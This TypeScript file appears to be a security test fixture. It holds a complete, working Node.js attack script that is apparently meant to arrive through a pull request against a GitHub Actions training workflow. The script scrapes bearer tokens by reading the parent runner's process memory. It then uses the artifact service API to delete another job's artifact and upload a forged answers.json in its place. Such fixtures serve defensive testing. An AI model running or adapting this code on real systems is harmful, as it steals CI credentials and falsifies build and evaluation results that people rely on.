/**
 * What hostile code does that trains: finds the token of its job in the memory of the action that started it, waits until
 * an artifact of another job is there, and puts one of its own in its place. Plain JavaScript, as a pull request would
 * bring it; what it managed to do is written to `log`.
 */
export function attackScript(artifact: string, log: string): string {
  return `
const fs = require("fs");
const { crc32 } = require("zlib");
const note = (line) => fs.appendFileSync(${JSON.stringify(log)}, line + "\\n");
const name = ${JSON.stringify(artifact)};

// the one that started this, and not another story's
function findVictim() {
  for (let pid = process.ppid; pid > 1; pid = Number(/^PPid:\\t(\\d+)$/m.exec(fs.readFileSync("/proc/" + pid + "/status", "utf8"))[1]))
    if (fs.readFileSync("/proc/" + pid + "/cmdline", "utf8").includes("actions/train/index.mjs")) return pid;
}

function search(pid) {
  const tokens = new Set(), services = new Set();
  const memory = fs.openSync("/proc/" + pid + "/mem", "r");
  for (const line of fs.readFileSync("/proc/" + pid + "/maps", "utf8").split("\\n")) {
    const range = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
    if (!range) continue;
    for (let at = parseInt(range[1], 16), end = parseInt(range[2], 16), read; at < end; at += read) {
      const piece = Buffer.alloc(Math.min(1 << 22, end - at));
      try { read = fs.readSync(memory, piece, 0, piece.length, at); } catch { break; }
      if (!read) break;
      const text = piece.toString("latin1");
      for (const [token] of text.matchAll(/eyJ[\\w-]{10,}\\.eyJ[\\w-]{10,}\\.[\\w-]{20,}/g)) tokens.add(token);
      for (const [service] of text.matchAll(/http:\\/\\/127\\.0\\.0\\.1:\\d{4,5}/g)) services.add(service);
    }
  }
  return { tokens, services };
}

function zip(path, text) {
  const [file, bytes] = [Buffer.from(path), Buffer.from(text)];
  const head = Buffer.alloc(26);
  head.writeUInt16LE(20, 0); head.writeUInt32LE(crc32(bytes), 10); head.writeUInt32LE(bytes.length, 14);
  head.writeUInt32LE(bytes.length, 18); head.writeUInt16LE(file.length, 22);
  const local = Buffer.concat([Buffer.from("504b0304", "hex"), head, file, bytes]);
  const central = Buffer.concat([Buffer.from("504b01021400", "hex"), head, Buffer.alloc(14), file]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(1, 8); end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12); end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

async function replace(token, service) {
  const [, ids] = JSON.parse(Buffer.from(token.split(".")[1], "base64url")).scp.split("Results:");
  const [run, job] = ids.split(":");
  const call = async (method, body) => {
    const answer = await fetch(service + "/twirp/github.actions.results.api.v1.ArtifactService/" + method, {
      method: "POST", headers: { authorization: "Bearer " + token, "content-type": "application/json" },
      body: JSON.stringify({ workflow_run_backend_id: run, workflow_job_run_backend_id: job, ...body }),
    });
    return answer.ok ? await answer.json() : undefined;
  };
  for (let tries = 0; tries < 300; tries++, await new Promise((go) => setTimeout(go, 50))) {
    const listed = await call("ListArtifacts", {});
    if (listed === undefined) return;
    if (!listed.artifacts.some((one) => one.name === name)) continue;
    await call("DeleteArtifact", { name });
    const made = await call("CreateArtifact", { name, version: 7 });
    const forged = zip("answers.json", "{}");
    await fetch(made.signed_upload_url, { method: "PUT", headers: { "x-ms-blob-type": "BlockBlob" }, body: forged });
    const done = await call("FinalizeArtifact", { name, size: String(forged.length) });
    note(done?.ok ? "replaced" : "refused");
    process.exit();
  }
}

(async () => {
  const { tokens, services } = search(findVictim());
  note(tokens.size + " tokens");
  for (const token of tokens) for (const service of services) await replace(token, service).catch(() => {});
})().catch((error) => note(String(error)));
`;
}
